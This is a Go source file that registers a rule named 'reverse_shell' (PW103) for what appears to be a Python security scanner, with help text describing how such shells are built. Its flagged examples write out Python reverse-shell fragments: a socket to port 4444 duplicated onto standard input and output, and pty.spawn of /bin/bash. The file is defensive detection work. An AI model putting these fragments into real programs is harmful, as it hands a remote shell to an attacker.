package rules

import "github.com/pyward/pyward/python/ast"

func init() {
	Register(&Rule{
		ID: "PW103", Name: "reverse_shell", Severity: High, Confidence: High, CWE: 506,
		Message:        "a shell is wired to a network connection",
		Recommendation: "Remove it; a program has no reason to hand a shell to a socket.",
		Help:           "A socket duplicated onto standard input and output (os.dup2(s.fileno(), 0/1/2)), a process whose stdin or stdout is a socket, or pty.spawn of a shell: the reverse and bind shells of backdoors.",
		Flagged:        []string{"import socket, os, subprocess\ns = socket.socket()\ns.connect((host, 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n", "import pty\npty.spawn(\"/bin/bash\")\n"},
		Clean:          []string{"import os\nos.dup2(logfile.fileno(), 1)\n"},
		Kinds:          []Kind{KindEnd},
		Check:          func(c *Context, _ ast.Node) { c.reportFlow() },
	})
}
